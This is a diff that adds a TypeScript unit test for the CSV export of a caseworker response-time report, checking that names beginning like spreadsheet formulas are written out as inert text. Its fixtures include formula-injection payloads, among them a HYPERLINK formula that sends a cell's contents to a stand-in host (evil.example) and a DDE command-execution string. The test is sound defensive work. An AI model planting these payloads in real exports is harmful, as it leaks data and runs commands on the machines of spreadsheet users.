@@ -299,6 +299,42 @@ describe('report output', () => {
     expect(lines.every((line) => line.split(',').length >= 8)).toBe(true);
   });
 
+  it('writes a caseworker named like a formula as text a spreadsheet will not run', () => {
+    const hostile = (id: string, name: string): Caseworker => ({
+      id,
+      name,
+      email: `${id}@kent.example.gov.uk`,
+      team: 'east',
+      topics: [],
+      cap: 10,
+      openCount: 1,
+      active: true,
+    });
+    const csv = reportCsv(
+      buildResponseTimeReport(
+        input({
+          caseworkers: [
+            hostile('cw-eq', '=HYPERLINK("http://evil.example/?"&A1,"Open")'),
+            hostile('cw-plus', "+1+cmd|' /C calc'!A0"),
+            hostile('cw-minus', '-2+3'),
+            hostile('cw-at', '@SUM(A1:A9)'),
+            hostile('cw-tab', '\t=1+1'),
+          ],
+        }),
+      ),
+      config,
+    );
+    const labels = csv
+      .split('\r\n')
+      .filter((line) => line.includes(',caseload,') && line.endsWith(',open,1'))
+      .map((line) => line.split(',').slice(5, -2).join(','));
+    expect(labels).toHaveLength(5);
+    for (const label of labels) expect(label.replace(/^"/, '').startsWith("'"), label).toBe(true);
+    // Numbers stay numbers, negative ones included.
+    expect(csvField('-12.5')).toBe('-12.5');
+    expect(csvField('=1+1')).toBe("'=1+1");
+  });
+
   it('quotes CSV fields that hold commas or quotes', () => {
     expect(csvField('Smith, "Jo"')).toBe('"Smith, ""Jo"""');
     expect(csvField('plain')).toBe('plain');
